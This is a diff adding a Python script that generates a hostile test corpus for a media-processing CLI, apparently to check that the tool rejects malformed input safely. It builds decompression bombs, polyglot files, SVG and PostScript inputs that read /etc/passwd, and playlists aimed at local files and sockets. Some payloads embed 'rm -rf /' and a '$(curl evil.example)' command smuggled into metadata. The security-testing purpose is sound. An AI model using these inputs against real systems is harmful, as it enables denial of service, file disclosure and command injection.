@@ -1,0 +1,207 @@
+#!/usr/bin/env python3
+"""Build the hostile corpus: small, deterministic files that attack a media tool.
+
+Each case names the file, what `mediaprep prepare` must answer (exit code and a
+message fragment), and any payload that must never reach an output. The suite
+(tests/test_hostile.py) builds the corpus in a temporary folder and asserts every
+expectation; `python testdata/make_hostile.py DIR` writes it for a look by hand.
+Audio/video cases need an ffmpeg (the one mediaprep resolves).
+"""
+from __future__ import annotations
+
+import io
+import struct
+import subprocess
+import sys
+import zlib
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from PIL import Image
+
+OK, BAD_INPUT = 0, 4
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str  # file name in the corpus (extension chosen to mislead where that is the point)
+    expect_exit: int
+    message: str = ""  # fragment the one-line error must contain (lower case)
+    payloads: tuple[bytes, ...] = ()  # must not appear in any output
+    needs: str = ""  # "voice" | "video": the fit module the case exercises
+    max_seconds: float = 30.0  # wall clock the whole CLI run may take
+    notes: str = ""
+    reads_canary: bool = field(default=False)  # points at the canary file / socket
+
+
+def _chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def _png(width: int, height: int, extra: bytes = b"", idat: bytes | None = None) -> bytes:
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    raw = idat if idat is not None else zlib.compress(b"".join(b"\0" + b"\x80" * 3 * width for _ in range(height)))
+    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", raw) + _chunk(b"IEND", b"")
+
+
+def _jpeg(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
+    buf = io.BytesIO()
+    Image.linear_gradient("L").resize(size).convert("RGB").save(buf, "JPEG", **save)
+    return buf.getvalue()
+
+
+def _gif_header(width: int, height: int) -> bytes:
+    # Logical screen and one image descriptor of the claimed size, a 2-colour table,
+    # and a tiny LZW stream: the header alone claims width*height pixels.
+    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
+    desc = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
+    return head + desc + b"\x02\x02\x44\x01\x00" + b"\x3b"
+
+
+def _gif(width: int, height: int) -> bytes:
+    buf = io.BytesIO()
+    Image.new("P", (width, height), 1).save(buf, "GIF")
+    return buf.getvalue()
+
+
+def _sof_bomb() -> bytes:
+    data = bytearray(_jpeg())
+    sof = data.find(b"\xff\xc0")
+    data[sof + 5:sof + 9] = struct.pack(">HH", 65500, 65500)  # height, width
+    return bytes(data)
+
+
+def _many_scans(count: int) -> bytes:
+    data = _jpeg((1024, 1024), progressive=True, quality=50)
+    sos = data.rfind(b"\xff\xda")
+    eoi = data.rfind(b"\xff\xd9")
+    return data[:eoi] + data[sos:eoi] * count + b"\xff\xd9"
+
+
+def _cyclic_exif() -> bytes:
+    # TIFF header + IFD0 with one entry (ExifIFD pointer) pointing back at IFD0,
+    # and IFD0's next-IFD offset pointing at itself.
+    ifd = struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
+    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd
+    app1 = b"Exif\x00\x00" + tiff
+    data = _jpeg()
+    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + data[2:]
+
+
+def image_cases(dest: Path) -> list[Case]:
+    cases: list[tuple[Case, bytes]] = [
+        (Case("bomb_png.png", BAD_INPUT, "exceed"), _png(100_000, 100_000, idat=zlib.compress(b"\0" * 4096))),
+        (Case("bomb_gif.gif", BAD_INPUT, "exceed"), _gif_header(65535, 65535)),
+        (Case("bomb_jpeg.jpg", BAD_INPUT, "exceed"), _sof_bomb()),
+        (Case("bomb_png_as.jpg", BAD_INPUT, "exceed"), _png(20_000, 20_000, idat=zlib.compress(b"\0" * 4096))),
+        (Case("ztxt_bomb.png", BAD_INPUT, "inflates", notes="50 MB of text inflates from 50 KB"),
+         _png(32, 32, extra=_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 50_000_000, 9)))),
+        (Case("icc_bomb.png", BAD_INPUT, "inflates", notes="a 50 MB ICC profile"),
+         _png(32, 32, extra=_chunk(b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * 50_000_000, 9)))),
+        (Case("many_scans.jpg", BAD_INPUT, "scans"), _many_scans(3000)),
+        (Case("cyclic_exif.jpg", OK), _cyclic_exif()),
+        (Case("zero.jpg", BAD_INPUT, "empty"), b""),
+        (Case("truncated.jpg", BAD_INPUT, "truncated"), _jpeg((640, 480), quality=95)[:3000]),
+        (Case("truncated.png", BAD_INPUT, ""), _png(300, 300)[:200]),
+        (Case("text.jpg", BAD_INPUT, "content is text/"), b"hello, this is not a picture\n" * 10),
+        (Case("page.jpg", BAD_INPUT, "text/html"), b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"),
+        (Case("drawing.jpg", BAD_INPUT, "svg"), b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="file:///etc/passwd"/></svg>\n'),
+        (Case("ghost.jpg", BAD_INPUT, "postscript"), b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(/etc/passwd) (r) file pop\nshowpage\n"),
+        (Case("doc.png", BAD_INPUT, "pdf"), b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"),
+        (Case("polyglot_zip.jpg", OK, payloads=(b"PK\x03\x04", b"evil.sh")),
+         _jpeg((64, 48), quality=80) + b"PK\x03\x04" + b"\0" * 26 + b"evil.sh" + b"#!/bin/sh\nrm -rf /\n\xff\xd9"),
+        (Case("polyglot_js.gif", OK, payloads=(b"alert(",)),
+         _gif(16, 16) + b"*/=1;alert(document.cookie);/*"),
+        (Case("polyglot_html.png", OK, payloads=(b"<script>",)),
+         _png(16, 16, extra=_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")) + b"<html><script>alert(2)</script>"),
+    ]
+    gif_frames = [Image.new("P", (8, 8), i % 256) for i in range(3000)]
+    buf = io.BytesIO()
+    gif_frames[0].save(buf, "GIF", save_all=True, append_images=gif_frames[1:], duration=10)
+    cases.append((Case("many_frames.gif", OK, notes="3000 frames: first frame only, fast"), buf.getvalue()))
+    out = []
+    for case, data in cases:
+        (dest / case.name).write_bytes(data)
+        out.append(case)
+    return out
+
+
+def _ff(ffmpeg: str, *args: str) -> None:
+    subprocess.run([ffmpeg, "-nostdin", "-hide_banner", "-loglevel", "error", "-y", *args],
+                   check=True, timeout=300)
+
+
+def av_cases(dest: Path, ffmpeg: str, canary: Path, port: int) -> list[Case]:
+    out: list[Case] = []
+    d = dest
+    # Playlists and concat scripts disguised as media, pointing at a canary file and a
+    # listening socket: refused by content before any demuxer sees them.
+    hls = (f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile://{canary}\n"
+           f"#EXTINF:1.0,\nhttp://127.0.0.1:{port}/x.ts\n#EXT-X-ENDLIST\n")
+    concat = f"ffconcat version 1.0\nfile '{canary}'\nfile 'http://127.0.0.1:{port}/y.mp4'\n"
+    for name, text in (("hls.mp4", hls), ("hls.avi", hls), ("hls.mkv", hls),
+                       ("concat.mp4", concat), ("concat.avi", concat), ("concat.mkv", concat)):
+        (d / name).write_text(text)
+        out.append(Case(name, BAD_INPUT, "text/plain", reads_canary=True))
+    # Headers that claim 10 hours over one second of data.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "sine=f=440:d=1", "-ar", "8000", "-ac", "1", str(d / "wav10h.wav"))
+    wav = bytearray((d / "wav10h.wav").read_bytes())
+    claim = 10 * 3600 * 8000 * 2
+    wav[4:8] = struct.pack("<I", claim + 36)
+    data_at = wav.find(b"data")
+    wav[data_at + 4:data_at + 8] = struct.pack("<I", claim)
+    (d / "wav10h.wav").write_bytes(bytes(wav))
+    out.append(Case("wav10h.wav", OK, needs="voice", notes="header claims 10 h; 1 s of samples"))
+    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
+        "-c:v", "libx264", "-c:a", "aac", "-shortest", str(d / "mp4_10h.mp4"))
+    mp4 = bytearray((d / "mp4_10h.mp4").read_bytes())
+    mvhd = mp4.find(b"mvhd")
+    if mvhd > 0 and mp4[mvhd + 4] == 0:  # version 0: timescale at +16, duration at +20
+        timescale = struct.unpack(">I", mp4[mvhd + 16:mvhd + 20])[0]
+        mp4[mvhd + 20:mvhd + 24] = struct.pack(">I", min(timescale * 36000, 0xFFFFFFFF))
+    (d / "mp4_10h.mp4").write_bytes(bytes(mp4))
+    out.append(Case("mp4_10h.mp4", OK, needs="video", notes="mvhd claims 10 h; 1 s of frames"))
+    # A genuinely 10-hour (silent) FLAC: refused by our duration limit, quickly.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "36000", "-c:a", "flac",
+        str(d / "silence10h.flac"))
+    out.append(Case("silence10h.flac", BAD_INPUT, "longer than", needs="voice", max_seconds=60))
+    # A 10-hour timestamp gap inside a 2-second file.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=2:s=160x120:r=10",
+        "-vf", "setpts=PTS+gte(T\\,1)*36000/TB", "-c:v", "libx264", str(d / "gap10h.mkv"))
+    out.append(Case("gap10h.mkv", BAD_INPUT, "longer than", needs="video"))
+    # 8192x8192 video: refused before decoding.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "color=c=blue:s=8192x8192:d=0.1:r=10", "-c:v", "libx264",
+        "-preset", "ultrafast", str(d / "huge8k.mp4"))
+    out.append(Case("huge8k.mp4", BAD_INPUT, "exceed", needs="video"))
+    # Odd dimensions, audio-only MP4, a script in the title.
+    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=65x33:r=10", "-c:v", "libx264",
+        "-pix_fmt", "yuv444p", str(d / "odd65x33.mp4"))
+    out.append(Case("odd65x33.mp4", OK, needs="video"))
+    _ff(ffmpeg, "-f", "lavfi", "-i", "sine=d=2", "-c:a", "aac", str(d / "audio_only.mp4"))
+    out.append(Case("audio_only.mp4", OK, needs="voice"))
+    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
+        "-c:v", "libx264", "-c:a", "aac", "-shortest",
+        "-metadata", "title=<script>alert('title')</script>",
+        "-metadata", "comment=$(curl evil.example)", str(d / "script_title.mp4"))
+    out.append(Case("script_title.mp4", OK, payloads=(b"<script>", b"curl evil"), needs="video"))
+    return out
+
+
+def main() -> None:
+    dest = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
+    dest.mkdir(parents=True, exist_ok=True)
+    cases = image_cases(dest)
+    try:
+        from mediaprep.tools.ffmpeg import get_ffmpeg
+
+        canary = dest / "CANARY.txt"
+        canary.write_text("canary: this must never be read\n")
+        cases += av_cases(dest, get_ffmpeg().path, canary, 9)
+    except Exception as exc:  # noqa: BLE001 - a look by hand: images alone are fine
+        print(f"audio/video cases skipped: {exc}")
+    for c in cases:
+        print(f"{c.name:24} exit {c.expect_exit}  {c.message or ''}  {c.notes}")
+
+
+if __name__ == "__main__":
+    main()
